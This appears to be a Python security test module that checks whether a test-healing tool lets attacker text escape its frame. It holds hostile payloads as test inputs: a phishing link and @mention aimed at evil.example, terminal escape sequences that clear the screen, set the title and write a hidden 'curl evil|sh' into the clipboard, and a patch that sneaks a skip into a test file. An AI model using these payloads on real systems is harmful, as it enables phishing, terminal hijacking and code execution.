"""Class 8: text that escapes its frame.

Test ids, messages, error types and paths are the attacker's text. In the pull-request body
they must stay inside code (no live @mention, link or image); on the terminal they must carry
no escape sequence; a test file must not slip into a published commit under a quoted name.
The control puts the same text where nothing escapes it (a naive body, pytest's raw output,
plain git applying the tampered patch): the judge fires.
"""

from __future__ import annotations

import json
import re
import sys

from attack import Attacks, broken, heal
from lab import Evidence, Lab, git

ATTACKS = Attacks(cls=8)
EVIL_ID = "x` @acme/admins [sign in](https://evil.example/login) ![t](https://evil.example/p.png) `y"
MARKUP = re.compile(r"@acme/admins|\]\(https://evil\.example")


def outside_code(markdown: str) -> str:
    """The markdown with fenced blocks and inline code spans removed: what renders live."""
    without_fences = re.sub(r"^(`{3,}|~{3,}).*?^\1\s*$", "", markdown, flags=re.S | re.M)
    return re.sub(r"`[^`\n]*`", "", without_fences)


def live_markup(lab: Lab, evidence: Evidence) -> list[str]:
    found = []
    for where, text in lab.products().items():
        if where.endswith(".md"):
            found += [f"live markup in {where}: {m.group(0)}" for m in MARKUP.finditer(outside_code(text))]
    return found


@ATTACKS.add("test-id-mention-link", check=live_markup, expect="live markup")
def mention_in_test_id(lab: Lab, held: bool) -> Evidence:
    """A failing test's id carries backticks, an @team mention, a link and an image."""
    test = (
        "import pytest\nfrom shapes import area\n\n\n"
        f"@pytest.mark.parametrize('w', [2], ids=[{EVIL_ID!r}])\n"
        "def test_area(w):\n    assert area(w, 3) == 6\n"
    )
    lab.repo(broken({"tests/test_shapes.py": test}))
    if held:
        return heal(lab, True)
    proposals = lab.checkout / ".git" / "suture" / "proposals"
    proposals.mkdir(parents=True)
    (proposals / "naive.md").write_text(f"Fixes `tests/test_shapes.py::test_area[{EVIL_ID}]`\n", encoding="utf-8")
    return lab.host(["true"])


def escapes(lab: Lab, evidence: Evidence) -> list[str]:
    text = evidence.stdout + evidence.stderr
    return [f"escape sequence on the terminal: {text[i : i + 24]!r}" for i in [text.find("\x1b")] if i >= 0]


OSC8 = "\x1b]8;;https://evil.example/\x1b\\\\click to fix\x1b]8;;\x1b\\\\ \x1b[2J"


@ATTACKS.add("osc8-in-message", check=escapes, expect="escape sequence")
def osc8_in_message(lab: Lab, held: bool) -> Evidence:
    """The failure message holds an OSC-8 hyperlink and a clear-screen sequence; suture prints to a terminal."""
    test = f"def test_escape():\n    raise ValueError({OSC8!r})\n"
    lab.repo(broken({"tests/test_escape.py": test}))
    if held:
        return lab.suture("diagnose")
    return lab.host([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"])


@ATTACKS.add("error-type-title-escape", check=escapes, expect="escape sequence")
def error_type_title_escape(lab: Lab, held: bool) -> Evidence:
    """The exception's class name sets the terminal title and writes the clipboard (OSC 0, OSC 52)."""
    name = "Boom\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsfHNo\x07"
    test = f"def test_type():\n    raise type({name!r}, (Exception,), {{}})('x')\n"
    lab.repo(broken({"tests/test_type.py": test}))
    if held:
        return lab.suture("diagnose")
    return lab.host([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider"])


def touched_tests(lab: Lab, evidence: Evidence) -> list[str]:
    changed = git(lab.checkout, "log", "--branches=suture/*", "--name-only", "--format=", env=lab.env, check=False)
    return [f"a published commit changes a test file: {line}" for line in changed.splitlines() if "test" in line]


@ATTACKS.add(
    "quoted-test-path-publish",
    check=touched_tests,
    expect="test file",
)
def quoted_test_path_publish(lab: Lab, held: bool) -> Evidence:
    """A proposal file whose patch also adds pytest.skip to tests/tést_calc.py (git quotes the name)."""
    calc = "def test_calc():\n    assert 1 + 1 == 2\n"
    lab.repo(broken({"tests/tést_calc.py": calc}))
    out = lab.root / "proposal.json"
    lab.suture("heal", "-q", "--out", str(out))
    plain = lab.root / "plain"
    git(lab.root, "clone", "-q", str(lab.checkout), str(plain), env=lab.env)
    (plain / "tests" / "tést_calc.py").write_text(
        "import pytest\n\npytest.skip('flaky', allow_module_level=True)\n" + calc
    )
    extra = git(plain, "diff", env=lab.env)
    document = json.loads(out.read_text(encoding="utf-8"))
    document["proposal"]["patch"] += extra
    out.write_text(json.dumps(document), encoding="utf-8")
    lab.take_snapshot()
    if held:
        return lab.suture("publish", "--json", str(out))
    script = (
        f"cd {plain} && git checkout -q . && git apply - && git add -A && "
        f"git commit -qm tampered && git push -q origin HEAD:refs/heads/suture/plain"
    )
    return lab.host(["sh", "-c", script], input=document["proposal"]["patch"])


test_attack = ATTACKS.test()
